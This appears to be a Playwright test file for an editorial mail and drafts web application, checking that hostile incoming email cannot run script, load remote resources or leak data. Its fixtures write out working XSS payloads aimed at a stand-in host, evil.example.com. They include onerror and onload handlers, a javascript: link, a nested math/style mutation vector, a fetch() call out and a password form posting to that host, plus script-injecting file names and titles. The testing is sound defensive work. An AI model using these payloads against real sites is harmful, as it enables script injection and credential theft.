"""Mail that means harm, opened by an editor: no script runs, no request leaves the page."""

from __future__ import annotations

from collections.abc import Callable
from pathlib import Path

import pytest
from playwright.sync_api import Page, expect

from tests.browser.conftest import Pages
from tests.samples import NOW, Desk, attached, found_draft, mail, submission

pytestmark = [pytest.mark.browser, pytest.mark.slow]

EVIL = "http://evil.example.com"
HOSTILE = f"""<html><head><meta http-equiv="refresh" content="0;url={EVIL}/meta"><base href="{EVIL}/">
<link rel="stylesheet" href="{EVIL}/a.css">
<style>@import url({EVIL}/b.css); body {{ background: url({EVIL}/c.png) }}</style>
<script>top.location = "{EVIL}/script"; window.hacked = true</script></head>
<body onload="parent.hacked = true; fetch('{EVIL}/load')" background="{EVIL}/bg.png">
<p style="background-image: url({EVIL}/d.png)">正文第一段</p>
<img src="{EVIL}/pixel.png" onerror="parent.hacked = true"><img src="x" onerror="parent.hacked = true">
<svg onload="parent.hacked = true"><image href="{EVIL}/svg.png"/><script>parent.hacked = true</script></svg>
<iframe src="{EVIL}/frame"></iframe><object data="{EVIL}/object"></object><embed src="{EVIL}/embed">
<video src="{EVIL}/video" autoplay></video><audio src="{EVIL}/audio" autoplay></audio>
<form action="{EVIL}/form"><input name="password"><button>提交</button></form>
<a href="javascript:parent.hacked = true">点这里</a><a href="{EVIL}/link">链接</a>
<math><mtext><table><mglyph><style><img src=x onerror="parent.hacked = true"></style></mglyph></table></mtext></math>
</body></html>"""
PASTE = """(field, html) => {
    field.insertAdjacentHTML("beforeend", "<p" + html);
    field.dispatchEvent(new Event("input", { bubbles: true }));
}"""
NAME = '"><img src=x onerror="window.hacked = true">.docx'
TITLE = '<script>window.hacked = true</script><img src="http://evil.example.com/t.png">'


def _hostile_desk(desk: Desk) -> None:
    desk.add_people()
    file, blob = attached(NAME, "docx", "annex", b"word")
    draft = found_draft(TITLE, "政府公文", body_html=HOSTILE, attachments=(file,), column_reason=TITLE, cut=(TITLE,))
    found = submission(None, "x@example.com", TITLE, NOW, draft, sender_name=TITLE, blobs=(blob,), note=HOSTILE)
    desk.receive(mail("hostile", "x@example.com", HOSTILE), found)
    other = submission(None, "y@example.com", TITLE, NOW, sender_name=TITLE, kind_reason=TITLE, note=HOSTILE)
    desk.receive(mail("other", "y@example.com", HOSTILE), other)


@pytest.fixture
def pages(open_pages: Callable[[Callable[[Desk], None]], Pages]) -> Pages:
    return open_pages(_hostile_desk)


def unharmed(pages: Pages, page: Page) -> None:
    page.wait_for_timeout(700)
    assert pages.foreign == []
    assert page.evaluate("window.hacked") is None
    assert pages.complaints == []
    assert page.url.startswith(pages.address)


@pytest.mark.parametrize("path", ["/drafts/1", "/drafts/1/edit", "/drafts/1/revisions/1", "/queue/pending", "/mail/2",
                                  "/mail/other", "/outbox", "/outbox/1"])  # fmt: skip
def test_a_hostile_mail_does_nothing_on_any_page(pages: Pages, path: str) -> None:
    page = pages.editor()
    page.goto(path)
    unharmed(pages, page)


def test_its_text_is_still_there_to_be_read(pages: Pages) -> None:
    page = pages.editor()
    page.goto("/drafts/1")
    expect(page.locator(".read .post")).to_contain_text("正文第一段")
    expect(page.frame_locator(".mail-frame").locator("body")).to_contain_text("正文第一段")
    unharmed(pages, page)


def test_the_frame_opened_by_itself_does_nothing_either(pages: Pages) -> None:
    page = pages.editor()
    page.goto("/mail/1/original")
    unharmed(pages, page)


def test_what_gets_into_the_editor_is_cleaned_when_it_is_saved(pages: Pages) -> None:
    page = pages.editor()
    page.goto("/drafts/1/edit")
    page.get_by_label("标题").fill("干净的标题")
    page.get_by_role("textbox", name="正文").evaluate(PASTE, HOSTILE.split("<body", 1)[1])
    page.get_by_role("button", name="保存").click()
    expect(page.get_by_role("heading", level=1)).to_contain_text("干净的标题")
    pages.foreign.clear()
    page.reload()
    unharmed(pages, page)
    kept = page.locator(".read .post").inner_html()
    assert not any(word in kept for word in ("script", "onerror", "style", "svg", "iframe", "<img"))


def test_a_hostile_file_is_saved_under_a_harmless_name(pages: Pages, tmp_path: Path) -> None:
    page = pages.editor()
    page.goto("/drafts/1")
    with page.expect_download() as waiting:
        page.locator(".files a").first.click()
    assert waiting.value.suggested_filename.endswith(".docx")
    assert not set(waiting.value.suggested_filename) & set('<>"/\\')
